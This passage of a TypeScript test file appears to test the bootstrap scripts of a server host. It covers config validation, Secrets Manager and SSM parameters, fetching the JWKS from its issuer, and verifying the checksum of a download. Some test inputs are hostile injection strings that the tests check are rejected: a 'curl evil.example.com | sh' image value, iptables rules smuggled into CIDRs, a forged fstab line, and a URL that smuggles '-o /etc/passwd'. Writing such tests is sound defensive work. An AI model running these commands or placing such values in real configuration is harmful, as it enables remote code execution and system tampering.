    config.network.vpcCidrs = ["10.0.0.0/16 -j ACCEPT\n-A OH-FORWARD -j ACCEPT", "10.1.0.0/33"];
    const host = newHost({ hostConfig: config });
    const run = host.run();
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain(
      'efsFileSystemId: "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/" is not an EFS file system id',
    );
    expect(run.stderr).toContain('images.node: "node:20; curl evil.example.com | sh" is not an image');
    expect(run.stderr).toContain("bedrock.models: [] is not a non-empty list of model ids");
    expect(run.stderr).toContain('network.vpcCidrs.0: "10.0.0.0/16 -j ACCEPT\n-A OH-FORWARD -j ACCEPT" is not an IPv4 CIDR');
    expect(run.stderr).toContain('network.vpcCidrs.1: "10.1.0.0/33" is not an IPv4 CIDR');
    expect(run.calls.filter((c) => /^(mount|mkfs|aws secretsmanager|ip6?tables)/.test(c))).toEqual([]);
    expect(host.file("etc/fstab")).not.toContain("efs");
  }, 320_000);

  it(
    "GIVEN Secrets Manager denies access (a real value may exist) WHEN oh-secrets runs at boot THEN it stops and never generates a " +
      "replacement secret",
    () => {
      const host = newHost();
      host.placeHostConfig();
      host.touchState("secrets/deny");
      const run = host.runScript("steps/50-secrets.sh");
      expect(run.code).not.toBe(0);
      expect(run.stderr).toContain("AccessDeniedException");
      expect(run.stderr).toContain("cannot read secret");
      expect(run.calls.filter((c) => c.startsWith("aws secretsmanager put-secret-value"))).toEqual([]);
    },
  );

  it(
    "GIVEN the edge stack is not applied yet (first deploy) WHEN oh-secrets runs THEN it carries on, and the watchdog fills the " +
      "parameter once it exists",
    () => {
      const host = newHost();
      host.placeHostConfig();
      host.deleteParameter(EDGE_PARAMETER);
      const boot = host.runScript("steps/50-secrets.sh");
      expect(boot.code).toBe(0);
      expect(boot.stderr).toContain("the edge stack has not created /oh/test/edge/secrets yet");
      expect(host.exists("run/openhands-team/edge-secrets-pending")).toBe(true);
      // the edge stack is applied: Terraform creates the parameter with its placeholder; the watchdog runs from the installed host files
      mkdirSync(join(host.root, "opt/openhands-team/host"), { recursive: true });
      cpSync(join(host.bundle, "firewall"), join(host.root, "opt/openhands-team/host/firewall"), { recursive: true });
      writeFileSync(join(host.root, "etc/openhands-team/firewall.env"), "VPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n");
      host.setParameter(EDGE_PARAMETER, '{"unset":true}');
      const watchdog = host.runScript("bin/oh-health-check.sh");
      expect(watchdog.code).toBe(0);
      const edge = JSON.parse(host.parameter(EDGE_PARAMETER)) as Record<string, string>;
      expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
      expect(host.exists("run/openhands-team/edge-secrets-pending")).toBe(false);
      // filled: later runs leave it alone
      const again = host.runScript("bin/oh-health-check.sh");
      expect(again.calls.filter((c) => c.startsWith("aws ssm"))).toEqual([]);
    },
  );

  it(
    "GIVEN an edge secrets parameter already filled with another identity key " + "WHEN oh-secrets runs at boot THEN it keeps it and warns",
    () => {
      const host = newHost();
      host.placeHostConfig();
      const edge = JSON.stringify({ identitySigningKey: "rotated-by-an-operator", ticketKey: "t", nonceKey: "n" });
      host.setParameter(EDGE_PARAMETER, edge);
      const run = host.runScript("steps/50-secrets.sh");
      expect(run.code).toBe(0);
      expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
      expect(host.parameter(EDGE_PARAMETER)).toBe(edge);
      expect(run.stderr).toContain(
        "WARNING: /oh/test/edge/secrets holds an identitySigningKey different from the identity-signing-key secret",
      );
      expect(host.mode("run/openhands-team/secrets/identity-signing-key")).toBe("0600");
    },
  );

  // The issuer's JWKS next to the edge keys: the host downloads it (curl, stubbed here by a script that serves
  // $STUB_STATE/jwks and logs its argv like the other stubs) from the jwksUri of the edge config parameter.
  const EDGE_CONFIG = "/oh/test/edge/config";
  const JWKS_URI = "https://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Pool1/.well-known/jwks.json";
  const rsaKey = (kid: string) => ({ kty: "RSA", kid, alg: "RS256", use: "sig", e: "AQAB", n: `n-of-${kid}` });
  function withJwksServer(host: DryRunHost, jwks: string | undefined): Record<string, string> {
    const bin = join(host.dir, "jwks-bin");
    mkdirSync(bin, { recursive: true });
    writeFileSync(
      join(bin, "curl"),
      '#!/usr/bin/env bash\n{ printf curl; printf " %q" "$@"; printf "\\n"; } >>"$STUB_LOG"\n[ -f "$STUB_STATE/jwks" ] || exit ' +
        '22\ncat "$STUB_STATE/jwks"\n',
      { mode: 0o755 },
    );
    if (jwks !== undefined) writeFileSync(join(host.state, "jwks"), jwks);
    return { PATH: `${bin}:${join(host.dir, "stubs")}:/usr/local/bin:/usr/bin:/bin` };
  }
  const edgeSecrets = (host: DryRunHost) => JSON.parse(host.parameter(EDGE_PARAMETER)) as Record<string, unknown>;

  it(
    "GIVEN the edge config names the issuer's jwksUri WHEN oh-secrets fills the placeholder THEN the keys and the issuer's JWKS " +
      "(public fields only) go in one parameter",
    () => {
      const host = newHost();
      host.placeHostConfig();
      host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri: JWKS_URI }));
      // a private exponent in the answer (a misconfigured issuer) is never stored
      const env = withJwksServer(host, JSON.stringify({ keys: [{ ...rsaKey("k1"), d: "private" }, rsaKey("k2")] }));
      const run = host.runScript("steps/50-secrets.sh", [], env);
      expect(run.code).toBe(0);
      const edge = edgeSecrets(host);
      expect(Object.keys(edge).sort()).toEqual(["identitySigningKey", "jwks", "jwksUri", "nonceKey", "ticketKey"]);
      expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
      expect(edge.jwksUri).toBe(JWKS_URI);
      expect(edge.jwks).toEqual({ keys: [rsaKey("k1"), rsaKey("k2")] });
      expect(run.calls).toContain(`curl -fsS --proto =https --max-redirs 0 --max-time 10 --max-filesize 65536 ${JWKS_URI}`);
      expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toHaveLength(1);
      // the next boot finds the same JWKS: nothing is written
      const again = host.runScript("steps/50-secrets.sh", [], env);
      expect(again.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
    },
  );

  it(
    "GIVEN a filled parameter (keys rotated by an operator) WHEN the issuer " +
      "rotated its keys THEN the next boot replaces only the JWKS",
    () => {
      const host = newHost();
      host.placeHostConfig();
      host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri: JWKS_URI }));
      const keys = { identitySigningKey: "rotated-by-an-operator", ticketKey: "t", nonceKey: "n", clientSecret: "cs" };
      host.setParameter(EDGE_PARAMETER, JSON.stringify({ ...keys, jwksUri: JWKS_URI, jwks: { keys: [rsaKey("old")] } }));
      const run = host.runScript("steps/50-secrets.sh", [], withJwksServer(host, JSON.stringify({ keys: [rsaKey("old"), rsaKey("new")] })));
      expect(run.code).toBe(0);
      expect(edgeSecrets(host)).toEqual({ ...keys, jwksUri: JWKS_URI, jwks: { keys: [rsaKey("old"), rsaKey("new")] } });
      expect(run.stderr).toContain("stored the issuer's current JWKS in /oh/test/edge/secrets");
      expect(run.stderr).toContain("WARNING: /oh/test/edge/secrets holds an identitySigningKey different");
    },
  );

  it.each([
    [
      "the edge config parameter does not exist yet",
      undefined,
      JSON.stringify({ keys: [rsaKey("k1")] }),
      "cannot read /oh/test/edge/config",
    ],
    ["the jwksUri is plain http", "http://issuer.example.com/jwks.json", JSON.stringify({ keys: [rsaKey("k1")] }), "has no https jwksUri"],
    [
      "the jwksUri smuggles a curl option",
      "https://issuer.example.com/jwks.json -o /etc/passwd",
      JSON.stringify({ keys: [rsaKey("k1")] }),
      "has no https jwksUri",
    ],
    ["the download fails", JWKS_URI, undefined, "cannot download the issuer's JWKS"],
    ["the answer is not a JWKS", JWKS_URI, "<html>error</html>", "is not a JWKS"],
    ["the answer has keys without kid", JWKS_URI, JSON.stringify({ keys: [{ kty: "RSA" }] }), "is not a JWKS"],
    [
      "the JWKS would pass SSM's 4 KB limit",
      JWKS_URI,
      JSON.stringify({ keys: Array.from({ length: 12 }, (_, i) => ({ ...rsaKey(`k${i}`), n: "x".repeat(342) })) }),
      "exceed 4096 bytes",
    ],
  ])(
    "GIVEN %s WHEN oh-secrets fills the placeholder THEN the keys are written " + "without a JWKS (the edge downloads it) and it says why",
    (_what, jwksUri, jwks, message) => {
      const host = newHost();
      host.placeHostConfig();
      if (jwksUri !== undefined) host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri }));
      const run = host.runScript("steps/50-secrets.sh", [], withJwksServer(host, jwks));
      expect(run.code).toBe(0);
      expect(run.stderr).toContain(message);
      expect(Object.keys(edgeSecrets(host)).sort()).toEqual(["identitySigningKey", "nonceKey", "ticketKey"]);
    },
  );

  it("GIVEN a compose plugin download that is not the pinned binary (supply-chain tampering) WHEN install.sh runs THEN it stops and " +
    "installs nothing", () => {
    const host = newHost();
    const versions = join(host.bundle, "versions.env");
    writeFileSync(versions, readFileSync(versions, "utf8").replace(/^COMPOSE_SHA256=.*$/m, `COMPOSE_SHA256=${"0".repeat(64)}`));
    const run = host.run();
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain("compose plugin checksum mismatch");
    expect(host.exists("usr/local/lib/docker/cli-plugins/docker-compose")).toBe(false);
    expect(run.calls.some((c) => c.startsWith("aws "))).toBe(false);
  }, 320_000);
});
